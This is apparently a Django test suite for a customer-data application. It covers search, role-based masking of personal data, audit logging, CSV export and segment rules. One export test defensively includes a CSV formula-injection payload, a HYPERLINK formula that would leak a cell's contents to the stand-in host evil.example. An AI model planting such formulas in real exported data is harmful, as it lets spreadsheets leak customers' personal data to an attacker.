"""Customer list, search and masking, contact points, the audit log, CSV export and segments."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import time_machine
from django.contrib import admin
from django.db import connection, transaction
from django.test.utils import CaptureQueriesContext

from cxcore.api.services import api_token_create
from cxcore.customers.models import AuditEntry, ContactPoint, Segment
from cxcore.customers.services import audit_record, customer_merge
from cxcore.customers.tests.factories import declare, make_customer
from cxcore.interactions.tests.factories import make_interaction, make_touchpoint
from cxcore.lib.actor import Actor
from cxcore.test import BaseTestCase

NOW = datetime(2026, 3, 15, 12, 0, tzinfo=UTC)


@time_machine.travel(NOW, tick=False)
class CustomersTestCase(BaseTestCase):
    def setUp(self):
        self.marie = make_customer(
            "Marie",
            "Dupont",
            email="Marie.Dupont@example.org",
            phone="+33612345678",
            lifecycle_stage="active",
            language="fr",
        )
        self.john = make_customer(
            "John", "Smith", email="john@example.com", lifecycle_stage="dormant", language="en"
        )

    def api(self, user, method: str, path: str, body=None, *, scope: str = "write"):
        _token, secret = api_token_create(actor=Actor(user=user), name="test", scope=scope)
        headers = {"Authorization": f"Bearer {secret}"}
        if method == "get":
            return self.client.get(path, body or {}, headers=headers)
        return self.client.post(
            path, data=json.dumps(body), content_type="application/json", headers=headers
        )

    def listed(self, user, **params) -> list:
        self.client.force_login(user)
        response = self.client.get("/customers/", params)
        self.assertEqual(response.status_code, 200)
        return list(response.context["page"].object_list)


class CustomerSearchTests(CustomersTestCase):
    def test_it_finds_customers_by_name(self):
        self.assertEqual(self.listed(self.agent, q="dupont"), [self.marie])
        self.assertEqual(self.listed(self.agent, q="marie dupont"), [self.marie])
        self.assertEqual(self.listed(self.agent, q="Smith"), [self.john])

    def test_it_finds_customers_by_email_in_any_case(self):
        self.assertEqual(self.listed(self.agent, q="MARIE.DUPONT@Example.ORG"), [self.marie])
        self.assertEqual(self.listed(self.agent, q=" john@example.com "), [self.john])

    def test_it_finds_customers_by_phone_in_national_format(self):
        for text in ("06 12 34 56 78", "06.12.34.56.78", "+33 6 12 34 56 78", "+33612345678"):
            with self.subTest(text=text):
                self.assertEqual(self.listed(self.agent, q=text), [self.marie])

    def test_it_finds_customers_by_phone_typed_without_spaces(self):
        self.assertEqual(self.listed(self.agent, q="0612345678"), [self.marie])

    def test_it_finds_customers_by_reference(self):
        self.assertEqual(self.listed(self.agent, q=self.john.reference), [self.john])
        self.assertEqual(self.listed(self.agent, q=self.john.reference.lower()), [self.john])

    def test_it_finds_nothing_for_an_unknown_email(self):
        self.assertEqual(self.listed(self.agent, q="nobody@example.org"), [])

    def test_it_filters_by_lifecycle_stage_language_and_segment(self):
        segment = Segment.objects.create(
            name="English", rules=[{"field": "language", "op": "eq", "value": "en"}]
        )

        self.assertEqual(self.listed(self.agent, lifecycle_stage="active"), [self.marie])
        self.assertEqual(self.listed(self.agent, lifecycle_stage="dormant"), [self.john])
        self.assertEqual(self.listed(self.agent, language="en"), [self.john])
        self.assertEqual(self.listed(self.agent, segment=segment.pk), [self.john])
        self.assertEqual(self.listed(self.agent, language="en", lifecycle_stage="active"), [])

    def test_it_leaves_merged_customers_out_of_the_list(self):
        customer_merge(actor=Actor(user=self.admin), survivor=self.marie, merged=self.john)

        self.assertEqual(self.listed(self.agent), [self.marie])
        self.assertEqual(self.listed(self.agent, q="john@example.com"), [self.marie])

    def test_it_pages_the_list(self):
        for number in range(28):
            make_customer("Client", f"Number {number}")
        self.client.force_login(self.agent)

        first = self.client.get("/customers/")
        second = self.client.get("/customers/", {"page": 2})

        self.assertEqual(first.context["page"].paginator.count, 30)
        self.assertEqual(len(first.context["page"].object_list), 25)
        self.assertEqual(len(second.context["page"].object_list), 5)
        listed = list(first.context["page"].object_list) + list(second.context["page"].object_list)
        self.assertEqual(len({c.pk for c in listed}), 30)

    def test_it_pages_the_api_list(self):
        for number in range(8):
            make_customer("Client", f"Number {number}")

        response = self.api(self.agent, "get", "/api/customers", {"page": 3, "page_size": 4})

        body = response.json()
        self.assertEqual((body["count"], body["page"], body["pages"]), (10, 3, 3))
        self.assertEqual(len(body["items"]), 2)

    def test_it_lists_customers_in_a_constant_number_of_queries(self):
        self.client.force_login(self.agent)
        with CaptureQueriesContext(connection) as few:
            self.client.get("/customers/")
        for number in range(20):
            make_customer("Client", f"Number {number}", email=f"client{number}@example.org")

        with CaptureQueriesContext(connection) as many:
            response = self.client.get("/customers/")

        self.assertEqual(response.context["page"].paginator.count, 22)
        self.assertEqual(len(many), len(few))


class PersonalDataMaskingTests(CustomersTestCase):
    def test_it_hides_names_and_emails_from_analysts_in_the_list(self):
        self.client.force_login(self.analyst)

        response = self.client.get("/customers/")

        self.assertEqual(response.status_code, 200)
        self.assertContains(response, self.marie.reference)
        for secret in ("Dupont", "Marie", "marie.dupont@example.org", "Smith", "john@example.com"):
            self.assertNotContains(response, secret)

    def test_it_hides_names_and_contact_points_from_analysts_in_the_api(self):
        listing = self.api(self.analyst, "get", "/api/customers").json()
        detail = self.api(self.analyst, "get", f"/api/customers/{self.marie.pk}").json()

        self.assertEqual(listing["count"], 2)
        for item in listing["items"]:
            self.assertNotIn("first_name", item)
            self.assertNotIn("last_name", item)
        self.assertEqual(detail["reference"], self.marie.reference)
        self.assertNotIn("last_name", detail)
        self.assertNotIn("contact_points", detail)
        self.assertNotIn("Dupont", json.dumps(detail))

    def test_it_shows_names_to_agents_in_the_api(self):
        detail = self.api(self.agent, "get", f"/api/customers/{self.marie.pk}").json()

        self.assertEqual(detail["last_name"], "Dupont")
        self.assertIn("marie.dupont@example.org", [p["value"] for p in detail["contact_points"]])

    def test_it_does_not_let_analysts_search_by_email_or_name(self):
        for text in ("marie.dupont@example.org", "Dupont", "06 12 34 56 78"):
            with self.subTest(text=text):
                self.assertEqual(self.listed(self.analyst, q=text), [])
                response = self.api(self.analyst, "get", "/api/customers", {"q": text})
                self.assertEqual(response.json()["count"], 0)

    def test_it_lets_analysts_search_by_reference(self):
        self.assertEqual(self.listed(self.analyst, q=self.marie.reference), [self.marie])

    def test_it_hides_contact_details_from_analysts_on_the_customer_page(self):
        self.client.force_login(self.analyst)

        response = self.client.get(f"/customers/{self.marie.pk}/")

        self.assertEqual(response.status_code, 200)
        self.assertContains(response, self.marie.reference)
        self.assertNotContains(response, "Dupont")
        self.assertNotContains(response, "marie.dupont@example.org")
        self.assertNotContains(response, "+33612345678")


class CustomerViewAuditTests(CustomersTestCase):
    def test_it_audits_every_view_of_a_customer_page_by_roles_seeing_personal_data(self):
        for user in (self.admin, self.manager, self.agent):
            with self.subTest(user=user.username):
                self.client.force_login(user)
                self.client.get(f"/customers/{self.marie.pk}/")
                self.client.get(f"/customers/{self.marie.pk}/")

                entries = AuditEntry.objects.filter(actor=user, action="view")
                self.assertEqual(entries.count(), 2)
                for entry in entries:
                    self.assertEqual(
                        (entry.target, entry.customer_id, entry.via, entry.at),
                        ("customer", self.marie.pk, "console", NOW),
                    )
                    self.assertEqual(entry.ip_address, "127.0.0.1")

    def test_it_audits_a_customer_read_through_the_api(self):
        self.api(self.agent, "get", f"/api/customers/{self.marie.pk}")

        entry = AuditEntry.objects.get(action="view")
        self.assertEqual(
            (entry.actor, entry.customer_id, entry.via), (self.agent, self.marie.pk, "api")
        )

    def test_it_does_not_audit_views_without_personal_data(self):
        self.client.force_login(self.analyst)
        self.client.get(f"/customers/{self.marie.pk}/")

        self.assertFalse(AuditEntry.objects.filter(action="view").exists())


class ContactPointTests(CustomersTestCase):
    def add(self, customer, **data):
        self.client.force_login(self.agent)
        return self.client.post(f"/customers/{customer.pk}/contact-points/", data)

    def test_it_normalises_an_added_email(self):
        response = self.add(self.john, kind="email", value="  John.SMITH@Example.COM ")

        self.assertRedirects(response, f"/customers/{self.john.pk}/")
        point = ContactPoint.objects.get(customer=self.john, value="john.smith@example.com")
        self.assertEqual((point.kind, point.source), ("email", "console"))
        entry = AuditEntry.objects.get(action="add_contact_point")
        self.assertEqual((entry.actor, entry.customer_id), (self.agent, self.john.pk))
        self.assertEqual(entry.changes["value"], "john.smith@example.com")

    def test_it_normalises_an_added_phone_number(self):
        response = self.add(self.john, kind="phone", value="06 98 76 54 32")

        self.assertRedirects(response, f"/customers/{self.john.pk}/")
        self.assertTrue(
            ContactPoint.objects.filter(customer=self.john, kind="phone", value="+33698765432")
        )

    def test_it_refuses_an_identity_owned_by_another_customer(self):
        response = self.add(self.john, kind="email", value="MARIE.DUPONT@example.org")

        self.assertEqual(response.status_code, 422)
        errors = response.context["contact_form"].errors
        self.assertEqual(list(errors), ["value"])
        self.assertIn("another customer", errors["value"][0])
        self.assertContains(response, errors["value"][0], status_code=422)
        self.assertEqual(
            ContactPoint.objects.get(value="marie.dupont@example.org").customer, self.marie
        )
        self.assertEqual(self.john.contact_points.count(), 1)
        self.assertFalse(AuditEntry.objects.filter(action="add_contact_point").exists())

    def test_it_refuses_an_invalid_phone_number_next_to_the_field(self):
        response = self.add(self.john, kind="phone", value="12")

        self.assertEqual(response.status_code, 422)
        self.assertIn("value", response.context["contact_form"].errors)
        self.assertEqual(self.john.contact_points.count(), 1)

    def test_it_does_not_let_analysts_add_contact_points(self):
        self.client.force_login(self.analyst)

        response = self.client.post(
            f"/customers/{self.john.pk}/contact-points/",
            {"kind": "email", "value": "x@example.org"},
        )

        self.assertEqual(response.status_code, 403)
        self.assertEqual(self.john.contact_points.count(), 1)


class AuditLogTests(CustomersTestCase):
    def test_it_shows_the_audit_log_to_admins_only(self):
        audit_record(actor=Actor(user=self.agent), action="view", target="customer", customer_id=1)
        self.client.force_login(self.admin)

        response = self.client.get("/customers/audit/")

        self.assertEqual(response.status_code, 200)
        self.assertEqual([e.actor_label for e in response.context["page"]], ["bob"])
        for user in (
            self.manager,
            self.agent,
            self.analyst,
            self.marketer,
            self.auditor,
            self.outsider,
        ):
            with self.subTest(user=user.username):
                self.client.force_login(user)
                self.assertEqual(self.client.get("/customers/audit/").status_code, 403)

    def test_it_filters_the_audit_log_by_customer_reference(self):
        actor = Actor(user=self.agent)
        audit_record(actor=actor, action="view", target="customer", customer_id=self.marie.pk)
        audit_record(actor=actor, action="view", target="customer", customer_id=self.john.pk)
        self.client.force_login(self.admin)

        response = self.client.get("/customers/audit/", {"customer": self.marie.reference})

        self.assertEqual([e.customer_id for e in response.context["page"]], [self.marie.pk])

    def test_it_refuses_to_edit_or_delete_an_audit_entry(self):
        entry = audit_record(actor=Actor(user=self.agent), action="view", target="customer")

        entry.action = "nothing"
        with self.assertRaises(PermissionError):
            entry.save()
        with self.assertRaises(PermissionError):
            entry.delete()
        with self.assertRaises(PermissionError):
            AuditEntry.objects.filter(pk=entry.pk).update(action="nothing")
        with self.assertRaises(PermissionError):
            AuditEntry.objects.update(action="nothing")
        with self.assertRaises(PermissionError):
            AuditEntry.objects.all().delete()
        # bulk_update runs in a transaction of its own, which the refusal breaks.
        with self.assertRaises(PermissionError), transaction.atomic():
            AuditEntry.objects.bulk_update([entry], ["action"])

        stored = AuditEntry.objects.get()
        self.assertEqual((stored.pk, stored.action), (entry.pk, "view"))

    def test_it_offers_no_change_or_delete_in_the_django_admin(self):
        entry = audit_record(actor=Actor(user=self.agent), action="view", target="customer")
        self.client.force_login(self.admin)

        listing = self.client.get("/admin/customers/auditentry/")
        page = self.client.get(f"/admin/customers/auditentry/{entry.pk}/change/")
        change = self.client.post(
            f"/admin/customers/auditentry/{entry.pk}/change/", {"action": "nothing"}
        )
        delete = self.client.post(
            f"/admin/customers/auditentry/{entry.pk}/delete/", {"post": "yes"}
        )
        add = self.client.get("/admin/customers/auditentry/add/")

        self.assertEqual(listing.status_code, 200)
        self.assertIsNone(listing.context["action_form"])  # not even "delete selected"
        self.assertEqual(page.status_code, 200)
        self.assertFalse(page.context["has_change_permission"])
        self.assertFalse(page.context["has_delete_permission"])
        self.assertEqual((change.status_code, delete.status_code, add.status_code), (403, 403, 403))
        self.assertEqual(AuditEntry.objects.get().action, "view")
        model_admin = admin.site._registry[AuditEntry]
        request = listing.wsgi_request
        self.assertFalse(model_admin.has_change_permission(request, entry))
        self.assertFalse(model_admin.has_delete_permission(request, entry))


class ExportTests(CustomersTestCase):
    def export(self, user, **params):
        self.client.force_login(user)
        return self.client.get("/customers/export.csv", params)

    def rows(self, response) -> list[list[str]]:
        text = b"".join(response.streaming_content).decode()
        return list(csv.reader(io.StringIO(text)))

    def test_it_exports_the_customers_and_audits_the_export(self):
        response = self.export(self.admin)

        self.assertEqual(response.status_code, 200)
        self.assertEqual(response["Content-Type"], "text/csv; charset=utf-8")
        self.assertIn("attachment;", response["Content-Disposition"])
        rows = self.rows(response)
        self.assertEqual(len(rows), 3)
        by_reference = {row[0]: row for row in rows[1:]}
        # E.164 numbers start with "+", which spreadsheets would evaluate: they are quoted too.
        self.assertEqual(
            by_reference[self.marie.reference][1:],
            ["Marie", "Dupont", "fr", "active", "0", "marie.dupont@example.org", "'+33612345678"],
        )
        entry = AuditEntry.objects.get(action="export")
        self.assertEqual(
            (entry.actor, entry.target, entry.via), (self.admin, "customer_list", "console")
        )
        self.assertEqual(entry.changes["rows"], 2)

    def test_it_exports_only_the_customers_matching_the_search(self):
        response = self.export(self.manager, language="en")

        rows = self.rows(response)
        self.assertEqual([row[0] for row in rows[1:]], [self.john.reference])
        entry = AuditEntry.objects.get(action="export")
        self.assertEqual(entry.changes, {"filters": {"language": "en"}, "rows": 1})

    def test_it_keeps_spreadsheets_from_running_exported_formulas(self):
        formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
        make_customer("+SUM(A1:A9)", formula, email="=1+2@example.org")

        rows = self.rows(self.export(self.admin, q="SUM"))

        self.assertEqual(len(rows), 2)
        row = rows[1]
        self.assertEqual(row[1], "'+SUM(A1:A9)")
        self.assertEqual(row[2], "'" + formula)
        self.assertEqual(row[6], "'=1+2@example.org")

    def test_it_refuses_the_export_to_roles_without_it(self):
        for user in (self.agent, self.analyst, self.marketer, self.outsider):
            with self.subTest(user=user.username):
                self.assertEqual(self.export(user).status_code, 403)
        self.assertFalse(AuditEntry.objects.filter(action="export").exists())


class SegmentTests(CustomersTestCase):
    def setUp(self):
        super().setUp()
        self.store = make_touchpoint("store-visit")
        make_interaction(self.marie, self.store, NOW - timedelta(days=10))
        make_interaction(self.john, self.store, NOW - timedelta(days=100))
        declare(self.marie, "favourite_store", "paris")
        declare(self.john, "favourite_store", "lyon")

    def create_segment(self, rules, *, user=None, name="Segment"):
        return self.api(
            user or self.manager, "post", "/api/segments", {"name": name, "rules": rules}
        )

    def count(self, rules) -> int:
        response = self.create_segment(rules, name=f"Segment {Segment.objects.count()}")
        self.assertEqual(response.status_code, 201, response.content)
        return response.json()["count"]

    def test_it_creates_a_segment_through_the_api(self):
        rules = [{"field": "lifecycle_stage", "op": "in", "value": ["active"]}]

        response = self.create_segment(rules, name="Active")

        self.assertEqual(response.status_code, 201)
        segment = Segment.objects.get()
        self.assertEqual(
            response.json(),
            {"id": segment.pk, "name": "Active", "description": "", "rules": rules, "count": 1},
        )
        self.assertEqual((segment.rules, segment.created_by), (rules, self.manager))
        again = self.api(self.manager, "get", f"/api/segments/{segment.pk}").json()
        self.assertEqual(again["count"], 1)

    def test_it_creates_a_segment_from_the_console_form(self):
        self.client.force_login(self.analyst)

        response = self.client.post(
            "/customers/segments/new/",
            {"name": "Everyone we know", "lifecycle_stages": ["active", "dormant"]},
        )

        segment = Segment.objects.get()
        self.assertRedirects(response, f"/customers/segments/{segment.pk}/")
        self.assertEqual(
            segment.rules,
            [{"field": "lifecycle_stage", "op": "in", "value": ["active", "dormant"]}],
        )
        page = self.client.get(f"/customers/segments/{segment.pk}/")
        self.assertEqual(page.context["page"].paginator.count, 2)
        self.assertNotContains(page, "Dupont")

    def test_it_counts_members_by_lifecycle_stage(self):
        self.assertEqual(
            self.count([{"field": "lifecycle_stage", "op": "in", "value": ["active"]}]), 1
        )
        self.assertEqual(
            self.count([{"field": "lifecycle_stage", "op": "in", "value": ["active", "dormant"]}]),
            2,
        )
        self.assertEqual(
            self.count([{"field": "lifecycle_stage", "op": "in", "value": ["new"]}]), 0
        )

    def test_it_counts_members_by_declared_attribute(self):
        rule = {
            "field": "attribute",
            "op": "eq",
            "value": {"key": "favourite_store", "value": "paris"},
        }

        self.assertEqual(self.count([rule]), 1)

    def test_it_counts_members_by_touchpoint_within_days(self):
        def rule(code, days):
            return [
                {"field": "touchpoint", "op": "within_days", "value": {"code": code, "days": days}}
            ]

        self.assertEqual(self.count(rule("store-visit", 30)), 1)
        self.assertEqual(self.count(rule("store-visit", 100)), 2)
        self.assertEqual(self.count(rule("store-visit", 99)), 1)
        make_touchpoint("call-centre", kind="phone_reception")  # known, but nobody called
        self.assertEqual(self.count(rule("call-centre", 3650)), 0)

    def test_it_requires_every_rule_to_hold(self):
        rules = [
            {"field": "lifecycle_stage", "op": "in", "value": ["active", "dormant"]},
            {"field": "language", "op": "eq", "value": "en"},
        ]

        self.assertEqual(self.count(rules), 1)

    def test_it_leaves_merged_customers_out_of_segments(self):
        customer_merge(actor=Actor(user=self.admin), survivor=self.marie, merged=self.john)

        self.assertEqual(self.count([{"field": "has_contact", "op": "eq", "value": "email"}]), 1)

    def test_it_refuses_invalid_rules_naming_the_rule(self):
        valid = {"field": "language", "op": "eq", "value": "fr"}
        cases = [
            ([valid, {"field": "shoe_size", "op": "eq", "value": "38"}], ["rule 2", "shoe_size"]),
            ([{"field": "intensity", "op": "in", "value": 5}], ["rule 1", "'in'"]),
            ([{"field": "lifecycle_stage", "op": "in", "value": ["asleep"]}], ["rule 1"]),
            (
                [
                    valid,
                    valid,
                    {"field": "touchpoint", "op": "within_days", "value": {"code": "x"}},
                ],
                ["rule 3"],
            ),
        ]
        for rules, expected in cases:
            with self.subTest(rules=rules):
                response = self.create_segment(rules)
                self.assertEqual(response.status_code, 422)
                error = response.json()["error"]
                self.assertEqual(error["field"], "rules")
                for text in expected:
                    self.assertIn(text, error["message"])
        self.assertFalse(Segment.objects.exists())

    def test_it_refuses_a_rule_that_is_not_an_object_naming_its_position(self):
        response = self.create_segment([{"field": "language", "op": "eq", "value": "fr"}, "all"])

        self.assertEqual(response.status_code, 422)
        self.assertEqual(response.json()["error"]["field"], "rules.1")
        self.assertFalse(Segment.objects.exists())

    def test_it_refuses_a_second_segment_with_the_same_name(self):
        Segment.objects.create(name="Active")

        response = self.create_segment([], name="ACTIVE")

        self.assertEqual(response.status_code, 422)
        self.assertEqual(response.json()["error"]["field"], "name")
        self.assertEqual(Segment.objects.count(), 1)

    def test_it_shows_form_errors_with_status_422(self):
        self.client.force_login(self.manager)

        response = self.client.post(
            "/customers/segments/new/", {"name": "Half", "attribute_key": "favourite_store"}
        )

        self.assertEqual(response.status_code, 422)
        self.assertIn("attribute_value", response.context["form"].errors)
        self.assertFalse(Segment.objects.exists())

    def test_it_does_not_let_agents_create_segments(self):
        response = self.create_segment([], user=self.agent)
        self.client.force_login(self.agent)
        page = self.client.post("/customers/segments/new/", {"name": "Mine"})

        self.assertEqual((response.status_code, page.status_code), (403, 403))
        self.assertFalse(Segment.objects.exists())
